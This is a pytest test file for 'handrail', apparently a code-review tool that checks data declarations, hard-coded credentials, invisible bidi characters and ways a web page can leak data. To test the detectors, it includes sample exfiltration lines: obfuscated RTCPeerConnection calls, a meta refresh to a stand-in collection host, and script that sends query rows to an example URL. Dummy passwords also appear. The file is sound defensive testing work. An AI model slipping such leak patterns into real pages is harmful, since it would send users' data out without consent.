"""What the review finds, on a labelled corpus and on anything at all."""

import re
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from tests.cases import cases

from handrail import review
from handrail.kernel import Manifest
from handrail.review.changes import changes
from handrail.review.check import parsed
from handrail.review.rules.credentials import MOST_SECRETS, MOST_TEXT
from handrail.review.rules.leaves import leaves

CORPUS = Path(__file__).parent / "corpus"
KNOWN = review.KnownData(
    datasets={
        "sales_orders": (
            "order_id",
            "order_date",
            "region",
            "product_line",
            "customer_id",
            "net_amount",
            "currency",
        ),
        "customers": ("customer_id", "name", "email", "region", "credit_limit"),
        "hr_employees": ("employee_id", "name", "salary"),
    },
    metrics={"revenue": {"sales_orders": ("net_amount", "region", "order_date")}, "orders": {}},
    packages=frozenset({"pandas", "numpy", "matplotlib", "pyarrow", "duckdb", "streamlit", "starlette"}),
)


@dataclass
class Snippet:
    name: str
    data: dict[str, tuple[str, ...]] = field(default_factory=dict)
    metrics: tuple[str, ...] = ()
    observed: dict[str, tuple[str, ...]] | None = None
    files: dict[str, bytes] = field(default_factory=dict)
    expected: set[tuple[str, int, str]] = field(default_factory=set)

    @property
    def manifest(self) -> Manifest:
        text = Manifest.render("corpus-app").split("\n\n")[0] + "\n\n"
        for dataset, columns in self.data.items():
            listed = f"columns = [{', '.join(f'{c!r}' for c in columns)}]\n" if columns else ""
            text += f"[data.{dataset}]\n{listed}".replace("'", '"')
        if self.metrics:
            text += f"[metrics]\nuse = {list(self.metrics)}\n".replace("'", '"')
        return Manifest.parse(text)

    def found(self) -> set[tuple[str, int, str]]:
        findings = review.check(self.files, self.manifest, self.observed, KNOWN)
        return {(one.file, one.line, one.rule) for one in findings}


def snippets(name: str) -> list[Snippet]:
    return [_snippet(part) for part in (CORPUS / name).read_text().split("##### ")[1:]]


def _snippet(text: str) -> Snippet:
    name, *lines = text.rstrip("\n").split("\n")
    snippet, file = Snippet(name), "app.py"
    written: dict[str, list[str]] = {}
    for line in lines:
        verb, _, rest = line.partition(" ")
        if verb == "@data":
            dataset, *columns = rest.split()
            snippet.data[dataset] = tuple(columns)
        elif verb == "@metrics":
            snippet.metrics = tuple(rest.split())
        elif verb == "@observed":
            dataset, *columns = rest.split()
            snippet.observed = {**(snippet.observed or {}), dataset: tuple(columns)}
        elif verb == "@file":
            file = rest
        elif verb == "@expect":
            place, rule = rest.split()
            at, _, number = place.rpartition(":")
            snippet.expected.add((at, int(number), rule))
        else:
            code, *marks = re.split(r"\s*#!\s*", line)
            written.setdefault(file, []).append(code)
            snippet.expected |= {(file, len(written[file]), rule) for rule in marks}
    snippet.files = {at: ("\n".join(code) + "\n").encode() for at, code in written.items()}
    return snippet


GOOD, BAD = snippets("good.txt"), snippets("bad.txt")


@pytest.mark.parametrize("snippet", GOOD + BAD, ids=lambda snippet: snippet.name)
def test_each_labelled_app_gives_exactly_its_findings(snippet: Snippet) -> None:
    assert snippet.found() == snippet.expected


def test_the_corpus_is_large_and_balanced() -> None:
    assert len(GOOD) >= 30
    assert len(BAD) >= 30
    assert not any(snippet.expected for snippet in GOOD)
    assert all(snippet.expected for snippet in BAD)


def test_a_credential_is_never_shown_in_a_finding() -> None:
    for snippet in BAD:
        for finding in review.check(snippet.files, snippet.manifest, snippet.observed, KNOWN):
            shown = " ".join((finding.title, finding.because, finding.fix))
            for secret in (
                "Wint3r2026",
                "S3cret!pw",
                "4f9aK2mNq8RtZx7WcVb3LpYd",
                "Tr0ub4dor&3",
                "correcthorse",
            ):
                assert secret not in shown


def test_the_smaller_manifest_can_be_pasted_as_it_stands() -> None:
    snippet = next(one for one in BAD if one.name == "declares far more than it reads")
    findings = review.check(snippet.files, snippet.manifest, snippet.observed, KNOWN)
    asked = next(one for one in findings if one.rule == "declared-not-read")
    toml = asked.fix.partition("write:\n")[2]
    assert toml == '[data.sales_orders]\ncolumns = ["region", "net_amount"]'
    head = snippet.manifest.text.partition("\n\n")[0]
    smaller = Manifest.parse(f"{head}\n\n{toml}\n")
    assert review.check(snippet.files, smaller, snippet.observed, KNOWN) == ()


def test_the_gravest_come_first_and_at_most_seven_groups_are_shown() -> None:
    files = {name: content for snippet in BAD for name, content in _prefixed(snippet).items()}
    findings = review.check(files, GOOD[0].manifest, None, KNOWN)
    assert [one.severity for one in findings] == sorted(one.severity for one in findings)
    groups, hidden = review.grouped(findings)
    assert len(groups) == 7
    assert hidden == len({one.group for one in findings}) - 7
    assert review.summary(findings).startswith("Not ready for production")


def _prefixed(snippet: Snippet) -> Mapping[str, bytes]:
    return {f"{snippet.name}/{name}": content for name, content in snippet.files.items()}


def test_a_failure_that_data_causes_blocks_and_other_failures_warn() -> None:
    severities = {
        snippet.name: {
            one.severity for one in review.check(snippet.files, snippet.manifest, snippet.observed, KNOWN)
        }
        for snippet in BAD
    }
    assert severities["empty result on failure"] == {"blocks"}
    assert severities["logs and returns false"] == {"warns"}


def test_without_a_known_layer_imports_are_not_judged() -> None:
    files = {"app.py": b"import polars\n"}
    assert review.check(files, GOOD[0].manifest, None, review.KnownData()) == ()


@pytest.mark.parametrize(
    "content",
    [
        b"x = 1\0",
        b"\xff\xfe\x00x",
        b"x = " + b"(" * 500 + b"1" + b")" * 500,
        b"x = " + b"-" * 50_000 + b"1",
        b"x = 1" + b"+1" * 20_000,
        b"x = 'a'" + b".strip()" * 900,
        b"x" * 1_000_001,
        b"def f(:\n",
    ],
    ids=["null", "not utf-8", "brackets", "minus", "plus", "chain", "too large", "syntax"],
)
def test_a_file_that_cannot_be_read_blocks_as_not_reviewed(content: bytes) -> None:
    findings = review.check({"app.py": content}, GOOD[0].manifest, None, KNOWN)
    if b".strip()" in content:  # deep, but some Pythons can still walk it
        assert {one.rule for one in findings} <= {"not-reviewed"}
    else:
        assert [(one.rule, one.severity) for one in findings] == [("not-reviewed", "blocks")]


PEER = "<script>new RTCPeerConnection({})</script>"
REFRESH = '<meta http-equiv="refresh" content="0; url=https://collect.example.com/">'


@pytest.mark.parametrize(
    ("file", "content", "rule"),
    [
        ("a.js", " " * 30_000 + "new RTCPeerConnection()", "leaves-by-peer-connection"),
        ("a.js", "new RTCPeerConn\\u0065ction()", "leaves-by-peer-connection"),
        ("a.js", "new RTCPeer\\u{0043}onnection()", "leaves-by-peer-connection"),
        ("a.js", "new window['RTC\\x50eerConnection']()", "leaves-by-peer-connection"),
        ("a.html", "\ufeff" + PEER, "leaves-by-peer-connection"),
        ("a.html", REFRESH.replace("refresh", "&#114;efresh"), "leaves-by-refresh"),
        ("a.html", REFRESH.replace(" content", "\n  content"), "leaves-by-refresh"),
        ("a.xml", REFRESH, "leaves-by-refresh"),
        ("templates/page.j2", PEER, "leaves-by-peer-connection"),
        ("app.py", f"PAGE = '{PEER}'", "leaves-by-peer-connection"),
        ("app.py", "PAGE = '<script>location = \"https://x.example/?\" + rows</script>'", "leaves-in-an-address"),
        ("app.py", "link = f'<a href=https://x.example/?{rows}>more</a>'", "leaves-in-an-address"),
    ],
)  # fmt: skip
def test_a_way_out_of_a_page_is_found_however_it_is_written(file: str, content: str, rule: str) -> None:
    encoding = "utf-16-le" if content.startswith("\ufeff") else "utf-8"
    found = list(leaves({file: content.encode(encoding)}, "web"))
    assert [(one.rule, one.line) for one in found] == [(rule, 1)]


@pytest.mark.parametrize("file", ["app.py", "page.js", "query.sql"])
@pytest.mark.parametrize("letter", ["\\u202e", "\\u2066", "\\u3164"])
def test_code_that_looks_other_than_it_runs_is_found_and_the_same_as_an_escape_is_not(
    file: str, letter: str
) -> None:
    written = f"'{letter}'\n"
    meant = written.encode().decode("unicode_escape")
    rules = {
        text: [one.rule for one in review.check({file: text.encode()}, GOOD[0].manifest, None, KNOWN)]
        for text in (written, meant)
    }
    assert rules[meant] == ["unseen-letter"] and rules[written] == []


def test_letters_that_nobody_sees_are_found_in_a_page_that_is_written_in_utf_16_too() -> None:
    page = "<script>let level = 'user\u202e \u2066'</script>\n".encode("utf-16")
    findings = review.check({"index.html": page}, Manifest.parse(Manifest.render("a")), None, KNOWN)
    assert "unseen-letter" in [one.rule for one in findings]


def test_python_that_serves_no_page_is_not_read_as_one() -> None:
    files = {"app.py": f"PAGE = '{PEER}'".encode()}
    web = Manifest.parse(Manifest.render("a", kind="web"))
    assert [one.rule for one in review.check(files, web, None, KNOWN)] == ["leaves-by-peer-connection"]
    assert review.check(files, Manifest.parse(Manifest.render("a")), None, KNOWN) == ()


def test_sql_that_is_nested_too_deeply_is_said_to_be_unclear() -> None:
    code = f"from handrail_sdk import query\nquery('SELECT {'(' * 5000}1{')' * 5000}')\n".encode()
    findings = review.check({"app.py": code}, Manifest.parse(Manifest.render("a")), None, KNOWN)
    assert [one.rule for one in findings] == ["cannot-tell"]


def test_a_string_that_doubles_forty_times_is_not_followed_to_its_end() -> None:
    lines = ["from handrail_sdk import query", "a0 = 'x'"]
    lines += [f"a{n} = a{n - 1} + a{n - 1}" for n in range(1, 41)]
    code = "\n".join([*lines, "query(a40)"]).encode()
    findings = review.check({"app.py": code}, Manifest.parse(Manifest.render("a")), None, KNOWN)
    assert [one.rule for one in findings] == ["cannot-tell"]


NAMES = st.sampled_from(
    ["app.py", "lib/x.py", ".env", "page.html", "a.ipynb", "data.csv", "handrail.toml", "é.js"]
)
PIECES = st.sampled_from(
    [
        "from handrail_sdk import query, metric\n", "import pandas as pd\n", "query(", "f'SELECT {x} FROM t'", ")\n",
        "try:\n  ", "except Exception:\n  pass\n", "password = 'Xy9!abcd'\n", "x = ", "sql += 'a'\n", "{'a': ",
        "lambda q='%s' % 1: q\n", "'{}{0}'.format(*a)\n", "for x in ['a']:\n  query(x)\n", "(x := query('select'))\n",
        "metric(name=x)\n", "def f(sql=None, *a, **k):\n  return query(sql)\nf(1)\n", "with a as (b, c): pass\n",
        "'SELECT ' ", "', '.join(", "pd.read_csv('/x')\n", "postgresql://a:b1c2@h/d\n", "\x00", "\n", "  ", "'", '"""',
    ]
)  # fmt: skip


@settings(max_examples=cases(150), deadline=None)
@given(
    st.dictionaries(
        NAMES,
        st.one_of(st.binary(max_size=200), st.lists(PIECES, max_size=12).map("".join).map(str.encode)),
        max_size=4,
    )
)
@example(
    {
        "app.py": b"'{' .format()\nfrom handrail_sdk import query\nquery('{'.format(1))\nquery('{a!x}'.format())"
    }
)
@example({"app.py": b"from handrail_sdk import query\nx = x + x\nquery(x)\nquery(*a)\nquery()"})
@example({"app.py": b"try:\n  x\nexcept* ValueError:\n  pass"})
def test_no_content_of_any_file_makes_the_check_raise(files: dict[str, bytes]) -> None:
    for finding in review.check(files, GOOD[0].manifest, {"sales_orders": ("region",)}, KNOWN):
        assert finding.line >= 1
        assert finding.file in {*files, "handrail.toml"}


@settings(max_examples=cases(100), deadline=None)
@given(st.text(max_size=120))
def test_no_sql_makes_the_check_raise(sql: str) -> None:
    code = f"from handrail_sdk import query\nquery({sql!r})\n".encode("utf-8", "replace")
    for finding in review.check({"app.py": code}, GOOD[0].manifest, None, KNOWN):
        assert (finding.file, finding.line >= 1) in {("app.py", True), ("handrail.toml", True)}


def test_without_a_catalog_a_star_is_every_column_and_nothing_else_is_made_up() -> None:
    bare = review.KnownData(packages=KNOWN.packages)
    found = {
        snippet.name: {
            one.rule for one in review.check(snippet.files, snippet.manifest, snippet.observed, bare)
        }
        for snippet in GOOD + BAD
    }
    assert found["subquery without prefixes and a star by alias"] == {"undeclared-columns"}
    assert found["declares two and reads everything"] == {"undeclared-columns"}
    assert found["names that do not exist"] == {
        "undeclared-columns",
        "undeclared-dataset",
        "undeclared-metric",
    }
    noisy = {name for name in found if name in {one.name for one in GOOD} and found[name]}
    assert noisy == {"star over exactly what is declared"}


def test_hostile_code_neither_breaks_a_push_nor_holds_it_up() -> None:
    deep = b"p = " + b"'a'+" * 2000 + b"'b'\nPASSWORD = 'hunter2hunter2'\n"
    (change,) = changes(None, {"app.py": deep})
    assert change.new is not None and "hunter2" not in change.new
    much = {f"m{n}.py": b"x = '%b'\n" % (b"a" * 300_000) for n in range(8)}  # each is parsed at once
    _, unread = parsed(much)
    assert len(unread) == 2 and all(one.severity == "blocks" for one in unread)


def test_text_beyond_what_is_searched_is_not_reviewed_and_not_shown() -> None:
    key = b"password = 'Tr0ub4dor&3'\n"
    files = {"app.py": b"x = 1\n", "a.txt": b"x" * MOST_TEXT, "b.txt": key}
    found = review.check(files, Manifest.parse(Manifest.render("a")), None, KNOWN)
    assert [one.file for one in found if one.rule == "not-reviewed"] == ["b.txt"]
    assert "Tr0ub4dor" not in str(changes(None, files))
    assert "not searched" in str(changes(None, files))


def test_an_app_full_of_credentials_shows_none_of_them() -> None:
    lines = b"".join(b"password%d = 'Tr0ub4dor&%d'\n" % (n, n) for n in range(MOST_SECRETS + 1))
    assert "Tr0ub4dor" not in str(changes(None, {"app.py": b"x = 1\n", "keys.env": lines}))
